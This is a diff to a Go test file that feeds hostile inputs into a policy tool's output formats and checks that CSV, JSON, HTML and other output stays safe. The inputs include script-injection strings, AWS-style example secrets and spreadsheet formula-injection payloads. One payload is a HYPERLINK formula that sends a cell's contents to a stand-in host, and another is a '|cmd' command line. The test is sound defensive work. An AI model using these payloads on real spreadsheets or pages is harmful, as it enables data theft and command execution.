@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"encoding/xml"
 	"errors"
@@ -33,10 +34,14 @@ var payloads = map[string]string{
 	"GitHub, anywhere":   "a ##[error]b",
 	"HTML":               `a"'><script>alert(1)</script><img src=x onerror=alert(1)>`,
 	"Markdown":           "a`<b>](javascript:alert(1)) | x | @team",
+	"a formula":          `=HYPERLINK("https://a.test/?"&A1,"b")`,
+	"a formula, later":   "\t+1|cmd",
+	"a formula of rows":  "@SUM(1)\n=1,forged\r\n-1",
 	"a secret":           accessKey,
 	"a secret in JSON":   `{"SecretAccessKey":"` + accessKey + `"}`,
 	"a secret, split":    "aws_secret_access_key=\n  " + accessKey,
 	"a secret in a URL":  "s3://AKIAIOSFODNN7EXAMPLE:" + accessKey + "@bucket",
+	"an environment":     "HOME=/a\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=" + accessKey + "\nPWD=/b",
 }
 
 // sinks are the ways in which the command prints what it was given; %s stands for
@@ -45,6 +50,17 @@ var sinks = map[string][]string{
 	"eval":                     {"eval", "%s/scenario.json"},
 	"eval, JSON":               {"eval", "-o", "json", "%s/scenario.json"},
 	"eval, JSON lines":         {"eval", "-o", "jsonl", "%s/scenario.json"},
+	"eval, CSV":                {"eval", "-o", "csv", "%s/scenario.json"},
+	"eval, a wrong one, CSV":   {"eval", "-o", "csv", "%s/wrong.json"},
+	"test, CSV":                {"test", "-o", "csv", "%s/scenario.json"},
+	"test, JSON lines":         {"test", "-o", "jsonl", "%s/scenario.json"},
+	"denied, HTML":             {"denied", "-o", "html", "%s/policy.json"},
+	"new access":               {"prove", "new-access", "%s/policy.json", "%s/other.json"},
+	"new access, JSON":         {"prove", "new-access", "-o", "json", "%s/policy.json", "%s/other.json"},
+	"new access, Markdown":     {"prove", "new-access", "-o", "markdown", "%s/policy.json", "%s/other.json"},
+	"new access, SARIF":        {"prove", "new-access", "-o", "sarif", "%s/policy.json", "%s/other.json"},
+	"new access, GitHub":       {"prove", "new-access", "-o", "github", "%s/policy.json", "%s/other.json"},
+	"equivalent, JSON":         {"prove", "equivalent", "-o", "json", "%s/policy.json", "%s/other.json"},
 	"eval, a wrong one":        {"eval", "%s/wrong.json"},
 	"eval, a wrong one, JSON":  {"eval", "-o", "json", "%s/wrong.json"},
 	"explain":                  {"explain", "--all", "%s/scenario.json"},
@@ -168,6 +184,8 @@ func isHarmless(t *testing.T, sink, stdout, stderr string) {
 	switch {
 	case strings.Contains(sink, "JSON") || strings.Contains(sink, "SARIF") || sink == "a file that is not there":
 		isJSON(t, []byte(stdout))
+	case strings.Contains(sink, "CSV"):
+		isCSV(t, stdout)
 	case strings.Contains(sink, "JUnit"):
 		isXML(t, stdout)
 	case strings.Contains(sink, "HTML") && stdout != "":
@@ -205,6 +223,19 @@ func isJSON(t *testing.T, text []byte) {
 		if err := d.Decode(&value); err != nil {
 			assert.ErrorIs(t, err, io.EOF, "%s", text)
 			return
+		}
+	}
+}
+
+// isCSV: a row is a line, and no cell is a formula.
+func isCSV(t *testing.T, text string) {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	require.NoError(t, err)
+	assert.Len(t, rows, strings.Count(text, "\n"))
+	for _, row := range rows {
+		for _, cell := range row {
+			assert.NotRegexp(t, `^\s*[=+@-]`, cell)
 		}
 	}
 }
